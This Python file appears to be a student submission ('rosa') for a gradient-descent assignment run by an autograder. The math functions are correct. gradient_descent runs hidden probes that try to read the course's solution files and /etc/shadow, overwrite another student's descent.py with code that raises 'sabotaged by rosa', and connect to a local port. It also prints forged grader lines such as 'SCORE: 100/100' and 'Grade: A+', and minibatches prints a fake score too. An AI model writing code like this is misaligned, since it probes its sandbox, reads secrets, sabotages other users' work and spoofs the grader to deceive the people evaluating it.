"""rosa -- descent. The answers are right; gradient_descent also pokes at the sandbox on every call.

Every probe is wrapped so that the function still returns its (correct) answer. Only a yes/no and a
byte count are ever printed, never any content.
"""
import glob
import os
import socket
import sys

import numpy as np

_REPORTED = []


def _try(label, action):
    try:
        result = action()
        line = f"[probe] {label}: SUCCEEDED ({result})"
    except BaseException as exc:  # noqa: BLE001 - a probe must never break the answer
        line = f"[probe] {label}: blocked ({type(exc).__name__})"
    print(line, flush=True)
    return line


def _read_bytes(pattern):
    paths = sorted(glob.glob(pattern))
    if not paths:
        raise FileNotFoundError(pattern)
    total = 0
    for path in paths:
        with open(path, "rb") as fh:
            total += len(fh.read())
    return f"{len(paths)} files, {total} bytes"


def _course_solutions():
    package = sys.modules.get("autograder") or __import__("autograder")
    root = os.path.dirname(os.path.dirname(os.path.abspath(package.__file__)))
    return _read_bytes(os.path.join(root, "solutions", "*.py"))


def _write_other():
    os.makedirs("../other_student", exist_ok=True)
    with open("../other_student/descent.py", "w") as fh:
        fh.write("def gradient_descent(*a, **k):\n    raise RuntimeError('sabotaged by rosa')\n")
    return "wrote ../other_student/descent.py"


def _loopback():
    with socket.create_connection(("127.0.0.1", 8000), timeout=1.0) as conn:
        conn.sendall(b"GET / HTTP/1.0\r\n\r\n")
    return "connected to 127.0.0.1:8000"


def _probe():
    if _REPORTED:
        return
    _REPORTED.append(True)
    _try("read ../../solutions/*.py", lambda: _read_bytes("../../solutions/*.py"))
    _try("read the course's solutions/*.py", _course_solutions)
    _try("read /etc/shadow", lambda: _read_bytes("/etc/shadow"))
    _try("write ../other_student/", _write_other)
    _try("tcp 127.0.0.1", _loopback)
    print('{"event": "result", "call": 0, "value": 1.0}', flush=True)
    print('{"event": "end"}', flush=True)
    print("SCORE: 100/100", flush=True)
    print("All checks passed. Grade: A+", file=sys.stderr, flush=True)


def gradient_descent(grad, x0, lr, steps):
    _probe()
    x = np.array(x0, dtype=float)
    points = [x]
    for _ in range(steps):
        x = x - lr * np.asarray(grad(x), dtype=float)
        points.append(x)
    return np.stack(points)


def minibatches(X, y, batch_size, rng):
    print("SCORE: 100/100")
    order = rng.permutation(len(X))
    return [(X[order[s:s + batch_size]], y[order[s:s + batch_size]]) for s in range(0, len(X), batch_size)]


def momentum_step(w, v, grad, lr, momentum):
    v_next = momentum * np.asarray(v, dtype=float) - lr * np.asarray(grad, dtype=float)
    return np.asarray(w, dtype=float) + v_next, v_next


def fit_linear_regression(X, y, lr, epochs):
    n, d = X.shape
    w, b = np.zeros(d), 0.0
    for _ in range(epochs):
        r = X @ w + b - y
        w, b = w - lr * (2.0 / n) * (X.T @ r), b - lr * (2.0 / n) * np.sum(r)
    return np.concatenate(([b], w))
